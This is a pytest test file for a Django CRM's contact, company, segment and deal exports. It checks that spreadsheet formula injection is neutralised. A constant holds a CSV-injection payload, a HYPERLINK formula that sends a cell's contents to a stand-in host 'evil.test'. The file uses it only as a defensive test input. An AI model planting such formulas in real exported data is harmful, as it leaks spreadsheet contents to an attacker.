"""Exports of contacts, companies and segments to CSV and XLSX: every column, the list's
filters, and formulas neutralised (=HYPERLINK(...) arrives as text)."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from autocrm.accounts.tests.factories import SYSTEM, api_key, member
from autocrm.core.models import Tenant
from autocrm.core.tenancy import tenant_context
from autocrm.crm import services
from autocrm.crm.exports import neutralise
from autocrm.crm.services import PhoneInput
from autocrm.crm.services import segments as segment_services
from autocrm.crm.tests.factories import company, contact, deal, pipeline
from autocrm.tickets.tests.api_client import Api

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.test/?x="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL, "'" + EVIL),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Plain", "Plain"),
        (42, 42),
    ],
)
def test_neutralise(value: object, expected: object) -> None:
    assert neutralise(value) == expected


def read_csv(content: bytes) -> list[dict[str, str]]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads the BOM as "this is UTF-8"
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_contacts_export_csv_with_filters_and_neutralised_cells(
    client: Client, tenant_a: Tenant
) -> None:
    agent = member(tenant_a, "agent", email="owner@acme.test")
    client.force_login(agent)
    initech = company(tenant_a, name="Initech")
    contact(
        tenant_a,
        name=EVIL,
        email="milton@initech.test",
        emails=["milton@home.test"],
        phones=[PhoneInput("+1 415 555 0100", "desk")],
        company_id=initech.pk,
        owner_id=agent.pk,
        tags=["vip"],
        custom_fields={"plan": "=1+1", "seats": 5},
        consent_email=True,
    )
    contact(tenant_a, name="Peter", email="peter@initech.test")
    response = client.get("/acme/agent/contacts/export/?tag=vip&format=csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="contacts.csv"' in response["Content-Disposition"]
    rows = read_csv(b"".join(response.streaming_content))  # type: ignore[attr-defined]
    assert len(rows) == 1
    row = rows[0]
    assert row["name"] == "'" + EVIL
    assert row["email"] == "milton@initech.test"
    assert row["other_emails"] == "milton@home.test"
    assert row["phone"] == "'+14155550100"  # E.164 starts with +: text, not a formula
    assert row["company"] == "Initech" and row["owner"] == "owner@acme.test"
    assert row["tags"] == "vip" and row["consent_email"] == "yes"
    assert row["custom.plan"] == "'=1+1" and row["custom.seats"] == "5"


def test_xlsx_export_stores_formulas_as_text(client: Client, tenant_a: Tenant) -> None:
    client.force_login(member(tenant_a, "agent"))
    contact(tenant_a, name=EVIL, email="a@x.test")
    response = client.get("/acme/agent/contacts/export/?format=xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))  # type: ignore[attr-defined]
    sheet = workbook.active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("name") + 1)
    assert cell.value == "'" + EVIL
    assert cell.data_type == "s"  # a string cell, not a formula


def test_companies_and_segment_exports(client: Client, tenant_a: Tenant) -> None:
    client.force_login(member(tenant_a, "agent"))
    parent = company(tenant_a, name="Globex", domains=["globex.test"])
    company(tenant_a, name="Globex Europe", parent_id=parent.pk, tags=["eu"])
    rows = read_csv(
        b"".join(client.get("/acme/agent/companies/export/?format=csv").streaming_content)  # type: ignore[attr-defined]
    )
    assert [(r["name"], r["parent"], r["domain"]) for r in rows] == [
        ("Globex", "", "globex.test"),
        ("Globex Europe", "Globex", ""),
    ]
    one = contact(tenant_a, email="one@x.test")
    contact(tenant_a, email="two@x.test")
    with tenant_context(tenant_a):
        listed = segment_services.segment_create(
            tenant=tenant_a, actor=SYSTEM, name="Q4 leads", kind="static", contact_ids=[one.pk]
        )
    response = client.get(f"/acme/agent/segments/{listed.pk}/export/?format=csv")
    assert 'filename="Q4-leads.csv"' in response["Content-Disposition"]
    assert [r["email"] for r in read_csv(b"".join(response.streaming_content))] == [  # type: ignore[attr-defined]
        "one@x.test"
    ]
    assert client.get("/acme/agent/contacts/export/?format=pdf").status_code == 400


def test_api_exports_and_the_row_limit(client: Client, tenant_a: Tenant, settings: object) -> None:
    api = Api(client, api_key(tenant_a, "read"))
    contact(tenant_a, email="a@x.test")
    contact(tenant_a, email="b@x.test")
    response = api.call("get", "/contacts/export?format=csv")
    assert response.status_code == 200
    assert len(read_csv(b"".join(response.streaming_content))) == 2
    assert api.call("get", "/contacts/export?format=pdf").status_code in (400, 422)
    settings.CRM_EXPORT_MAX_ROWS = 1  # type: ignore[attr-defined]
    too_many = api.call("get", "/contacts/export?format=csv")
    assert too_many.status_code in (400, 422)
    assert "More than 1 rows" in too_many.json()["detail"] or "narrow" in str(too_many.json())


def test_the_deals_table_exports_as_filtered_with_formulas_neutralised(
    client: Client, tenant_a: Tenant
) -> None:
    sales = pipeline(tenant_a, name="Sales")
    pat = contact(tenant_a, email="pat@initech.test")
    deal(tenant_a, title=EVIL, amount="1200.5", currency="EUR", contact_id=pat.pk)
    deal(tenant_a, title="A small lead", kind="lead")
    lost = deal(tenant_a, title="Lost one")
    with tenant_context(tenant_a):
        services.deal_close(tenant=tenant_a, actor=SYSTEM, deal=lost, status="lost", reason="x")
    client.force_login(member(tenant_a, "light_agent", email="l@acme.test"))
    table = client.get("/acme/agent/deals/", {"view": "table", "kind": "deal"}).content.decode()
    assert "/acme/agent/deals/export/?view=table&amp;kind=deal&amp;format=csv" in table
    response = client.get(
        "/acme/agent/deals/export/", {"kind": "deal", "status": "open", "format": "csv"}
    )
    assert response.status_code == 200
    rows = read_csv(b"".join(response.streaming_content))  # type: ignore[attr-defined]
    assert [r["title"] for r in rows] == ["'" + EVIL]
    (row,) = rows
    assert (row["pipeline"], row["stage"], row["probability"], row["status"]) == (
        "Sales",
        "Qualified",
        "10",
        "open",
    )
    assert (row["amount"], row["currency"], row["contact"]) == (
        "1200.50",
        "EUR",
        "pat@initech.test",
    )
    xlsx = client.get(
        "/acme/agent/deals/export/", {"pipeline": sales.pk, "format": "xlsx", "sort": "nonsense"}
    )
    sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active  # type: ignore[attr-defined]
    assert sheet is not None and sheet.max_row == 4  # the header and all three
    assert client.get("/acme/agent/deals/export/", {"format": "pdf"}).status_code == 400
